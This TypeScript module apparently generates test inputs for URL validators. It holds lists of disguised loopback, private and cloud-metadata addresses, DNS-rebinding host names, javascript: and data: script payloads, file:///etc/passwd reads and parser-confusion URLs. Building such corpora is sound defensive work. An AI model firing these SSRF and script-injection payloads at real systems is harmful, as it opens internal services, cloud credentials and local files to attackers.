import type { Bait, Family, Write } from './payload.ts';

/** Hosts that lead inside, in every writing that some reader takes. No name among them is registered. */
export const insideHosts: readonly string[] = [
  ...[
    '127.0.0.1',
    '127.1',
    '127.0.0.1.',
    '0',
    '0.0.0.0',
    '0.1.2.3',
    '2130706433',
    '0x7f000001',
    '0x7f.1',
    '0x7F.0.0.1',
  ],
  ...['0177.0.0.1', '017700000001', '127.0.0.01', '%31%32%37.0.0.1', '127\u30020\u30020\u30021'],
  ...['\u2460\u2461\u2466.\u24ea.\u24ea.\u2460', '\uff11\uff12\uff17.0.0.1', 'localhost', 'LOCALHOST.', 'a.localhost'],
  ...[
    '[::1]',
    '[::]',
    '[0:0:0:0:0:0:0:1]',
    '[::ffff:127.0.0.1]',
    '[::ffff:7f00:1]',
    '[::127.0.0.1]',
    '[64:ff9b::7f00:1]',
  ],
  ...['[fe80::1]', '[fd00:ec2::254]', '[fec0::1]', '[2002:7f00:1::]', '[::ffff:a9fe:a9fe]', '[ff02::1]'],
  ...[
    '10.0.0.1',
    '012.0.0.1',
    '172.16.0.1',
    '192.168.0.1',
    '0xc0a80001',
    '169.254.169.254',
    '2852039166',
    '0xa9fea9fe',
  ],
  ...['0251.0376.0251.0376', '100.100.100.200', '198.18.0.1', '224.0.0.1', '255.255.255.255'],
  ...['metadata.google.internal', 'printer.local', 'router.lan', 'intranet', 'x.onion', 'x.home.arpa'],
];

const hosts: Family = {
  name: 'addresses that lead inside',
  texts: insideHosts.flatMap((host): Write[] => [
    ({ port, beacon }) => `http://${host}:${port}${pathOf(beacon)}`,
    ({ beacon }) => `https://${host}${pathOf(beacon)}`,
  ]),
};

function pathOf(beacon: string): string {
  return new URL(beacon).pathname;
}

const names: Family = {
  name: 'names that change where they lead',
  texts: [
    ({ beacon }) => `https://127.0.0.1.nip.example${pathOf(beacon)}`,
    ({ beacon }) => `https://7f000001.c0a80001.rbndr.example${pathOf(beacon)}`,
    ({ beacon }) => `https://10-0-0-1.sslip.example${pathOf(beacon)}`,
    ({ beacon }) => `https://make-1.1.1.1-rebind-127.0.0.1-rr.example${pathOf(beacon)}`,
  ],
};

const inBase64 = ({ run }: Bait) => Buffer.from(`<script>${run}</script>`).toString('base64');

const schemes: Family = {
  name: 'schemes',
  texts: [
    ({ run }) => `javascript:${run}`,
    ({ run }) => `JaVaScRiPt:${run}`,
    ({ run }) => `java\tscript:${run}`,
    ({ run }) => `java\r\nscript:${run}`,
    ({ run }) => ` \u0001javascript:${run}`,
    ({ run }) => `javascript://x.example/%0a${run}`,
    ({ run }) => `javascript&colon;${run}`,
    ({ run }) => `javascript%3a${run}`,
    ({ run }) => `\u200bjavascript:${run}`,
    ({ run }) => `data:text/html,<script>parent.${run}</script>`,
    (bait) => `data:text/html;base64,${inBase64(bait)}`,
    ({ run }) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
    ({ run }) => `vbscript:${run}`,
    () => 'file:///etc/passwd',
    () => 'file://localhost/etc/passwd',
    ({ beacon }) => `view-source:${beacon}`,
    ({ beacon }) => `blob:${beacon}`,
    ({ beacon }) => `filesystem:${beacon}`,
    ({ port }) => `ftp://127.0.0.1:${port}/`,
    ({ port }) => `gopher://127.0.0.1:${port}/_x`,
    ({ port }) => `ws://127.0.0.1:${port}/`,
    ({ port }) => `jar:http://127.0.0.1:${port}!/x`,
    () => 'intent://scan/#Intent;scheme=zxing;end',
    () => 'about:blank',
    () => 'chrome://settings',
  ],
};

const confusions: Family = {
  name: 'addresses that two readers read differently',
  texts: [
    ({ port, beacon }) => `https://x.example@127.0.0.1:${port}${pathOf(beacon)}`,
    ({ port, beacon }) => `https://x.example\\@127.0.0.1:${port}${pathOf(beacon)}`,
    ({ port }) => `https://127.0.0.1:${port}#@x.example/`,
    ({ port }) => `https://127.0.0.1:${port}\\.x.example/`,
    ({ port }) => `https:/127.0.0.1:${port}/`,
    ({ port }) => `https:127.0.0.1:${port}/`,
    ({ port }) => `https:///127.0.0.1:${port}/`,
    ({ port }) => `https:\\\\127.0.0.1:${port}\\`,
    ({ port, beacon }) => `//127.0.0.1:${port}${pathOf(beacon)}`,
    ({ port, beacon }) => `/\\127.0.0.1:${port}${pathOf(beacon)}`,
    ({ port }) => `\\\\127.0.0.1@${port}\\share`,
    ({ port }) => `https://x.example%2f@127.0.0.1:${port}/`,
    ({ port }) => `https://x.example%00.127.0.0.1:${port}/`,
    ({ port }) => `https://x.example\t@127.0.0.1:${port}/`,
    ({ port }) => `https://x.example:443:${port}/`,
    ({ port }) => `https://[::1%25eth0]:${port}/`,
    ({ beacon }) => `https://x.example/?u=${encodeURIComponent(beacon)}`,
    ({ beacon }) => `https://x.example/#${beacon}`,
    ({ port }) => `ht\ntps://127.0.0.1:${port}/`,
    () => 'https://user:password@x.example/',
    () => 'https://x.example:8443/',
    () => 'https://xn--/',
    () => 'https://\u0430pple.example/',
    () => 'https://x.example\uff0f.y.example/',
    () => `https://${'a'.repeat(64)}.example/`,
    () => 'ipfs://../../etc/passwd',
  ],
};

export const addressFamilies: readonly Family[] = [hosts, names, schemes, confusions];
